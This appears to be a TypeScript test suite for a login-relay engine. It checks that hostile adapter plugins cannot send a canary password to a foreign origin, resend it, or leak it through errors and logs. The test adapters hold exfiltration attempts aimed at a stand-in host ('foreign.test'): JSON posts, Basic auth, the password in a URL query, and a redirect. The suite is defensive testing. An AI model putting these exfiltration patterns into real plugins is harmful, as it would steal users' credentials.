import { writeFile } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { inspect } from 'node:util'
import { pino } from 'pino'
import t from 'tap'
import { startBadSite } from '../sites/bad-sites.ts'
import { serve } from '../sites/serve.ts'
import { signIn, startEngine } from './engine-for-test.ts'

type T = Parameters<typeof startEngine>[0]
const password = 'canary-password'

/** A bare socket that notes what comes in. */
async function startListener(t: T): Promise<{ origin: string; connections: () => number; received: () => string }> {
  const chunks: Buffer[] = []
  let connections = 0
  const server = createServer((socket) => {
    connections += 1
    socket.on('data', (chunk) => chunks.push(chunk))
    socket.on('error', () => {})
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => server.close(() => resolve())))
  const { port } = server.address() as AddressInfo
  return { origin: `http://foreign.test:${port}`, connections: () => connections, received: () => Buffer.concat(chunks).toString('latin1') }
}

/** An adapter that does what it is told to, and nothing else. */
async function folderWith(t: T, body: string): Promise<string> {
  const folder = t.testdir()
  await writeFile(
    join(folder, 'hostile.ts'),
    `import { defineAdapter } from 'login-relay/adapters'
import { z } from 'zod'
export default defineAdapter({ name: 'hostile', api: 1, description: 'x', settings: z.any(), isSignedIn: async () => true, signOut: async () => false,
  async signIn({ browser, site, settings, secrets, nextAttempt, readCaptcha, step, username }) { const { password } = secrets; const foreign = settings.foreign; ${body}; return { evidence: ['done'] } } })`,
  )
  return folder
}

t.test('law 2: a page whose form posts the password to a foreign origin gets nothing, and that origin is not even connected to', async (t) => {
  const listener = await startListener(t)
  const site = await startBadSite('foreign-action', { foreign: listener.origin })
  t.teardown(() => site.stop())
  const login = await startEngine(t)
  t.match(await signIn(login, { url: site.url, username: 'ann', password }), { ok: false, kind: 'unknown' })
  t.equal(listener.connections(), 0)
})

const attempts: Readonly<Record<string, string>> = {
  'fills it into the form of a page elsewhere': `const page = await browser.open(site.loginUrl); await page.forms[0].fill('pass', password).submit()`,
  'posts it elsewhere as JSON': 'await browser.postJson(foreign + "/x", { password })',
  'opens a page elsewhere with it as HTTP Basic': 'await browser.open(foreign + "/x", { authorization: { basic: { username, password } } })',
  'asks the site itself with it to be led elsewhere': 'await browser.postJson(new URL("/moved", site.loginUrl), { password })',
  'writes the handle into an address': 'await browser.open(foreign + "/?p=" + password)',
  'writes it into an address of the site': 'await browser.open(new URL("/login?p=" + password, site.loginUrl))',
}

for (const [what, body] of Object.entries(attempts)) {
  t.test(`law 2: an adapter that ${what} moves no byte of it to a foreign origin, enrolled or not`, async (t) => {
    for (const isEnrolled of [false, true]) {
      const listener = await startListener(t)
      const site = await serve(({ path }) =>
        path === '/moved'
          ? { status: 307, headers: { location: `${listener.origin}/x` } }
          : { body: `<form method="post" action="${listener.origin}/collect"><input name="user"><input type="password" name="pass"></form>` },
      )
      t.teardown(() => site.stop())
      const login = await startEngine(t, { adaptersFolder: await folderWith(t, body), settings: { timeoutSeconds: 1 } })
      const visit = { url: site.url, username: 'ann', password, adapter: 'hostile', settings: { foreign: listener.origin } }
      // The site may be enrolled with the foreign origin; the secret is not.
      const outcome = await signIn(login, { ...visit, ...(isEnrolled ? { siteOrigins: [listener.origin] } : {}) })
      t.notOk(outcome.ok && /moved|foreign/.test(body))
      t.notMatch(listener.received(), 'canary')
      t.notOk(site.requests.some(({ path }) => path.includes('canary')))
      t.notMatch(JSON.stringify(outcome), 'canary')
    }
  })
}

t.test('law 3: an adapter that sends the password again and again sends it once', async (t) => {
  const body =
    'for (let i = 0; i < 5; i++) { try { await browser.postJson(site.loginUrl, { password }) } catch (error) { step("answer", error.code) } } nextAttempt()'
  const site = await serve(() => ({ body: 'wrong' }))
  t.teardown(() => site.stop())
  const login = await startEngine(t, { adaptersFolder: await folderWith(t, body) })
  const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter: 'hostile', settings: {} })
  t.match(outcome, { ok: false, kind: 'unknown', seen: [/again without a captcha in between/] })
  t.equal(site.requests.filter(({ body: sent }) => sent.includes(password)).length, 1)
  t.equal(outcome.steps.filter(({ text }) => text === 'secret_refused').length, 4)
})

t.test('law 3: an adapter that counts no captcha tries is stopped by the engine', async (t) => {
  const body = 'for (;;) { await browser.postJson(site.loginUrl, { password }); await readCaptcha(Buffer.from("BM")); nextAttempt() }'
  const site = await serve(() => ({ body: 'wrong captcha' }))
  t.teardown(() => site.stop())
  const login = await startEngine(t, {
    adaptersFolder: await folderWith(t, body),
    settings: { captchaTries: 3 },
    openReader: () => Promise.reject(new Error('no reader here')),
  })
  const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter: 'hostile', settings: {}, ask: async () => 'x' })
  t.match(outcome, { ok: false, kind: 'wrong-captcha' })
  t.equal(site.requests.length, 3)
})

t.test('law 1: an adapter whose error quotes a page that repeats the password leaks it neither to the person nor to the log', async (t) => {
  const body =
    'const page = await browser.postJson(site.loginUrl, { password }); throw new Error(page.text, { cause: Object.assign(new Error(page.text), { code: page.text }) })'
  const site = await serve((request) => ({ body: `you sent ${request.body.toString()}` }))
  t.teardown(() => site.stop())
  const login = await startEngine(t, { adaptersFolder: await folderWith(t, body) })
  const outcome = await signIn(login, { url: site.url, username: 'ann', password, adapter: 'hostile', settings: {} })
  if (outcome.ok) return void t.fail('it signed in')
  const lines: string[] = []
  pino({ level: 'warn' }, { write: (line: string) => void lines.push(line) }).warn({ err: outcome.cause, seen: outcome.seen }, 'sign-in failed')
  t.match(lines.join(''), 'you sent')
  t.notMatch(lines.join('') + inspect(outcome, { depth: 9 }), 'canary')
})

t.test('law 3: an adapter that goes on after the outcome sends nothing any more', async (t) => {
  const body = 'setTimeout(() => browser.postJson(site.loginUrl, { password }).catch(() => {}), 50)'
  const site = await serve(() => ({ body: '' }))
  t.teardown(() => site.stop())
  const login = await startEngine(t, { adaptersFolder: await folderWith(t, body) })
  t.ok((await signIn(login, { url: site.url, username: 'ann', password, adapter: 'hostile', settings: {} })).ok)
  await new Promise((resolve) => setTimeout(resolve, 200))
  t.same(site.requests, [])
})
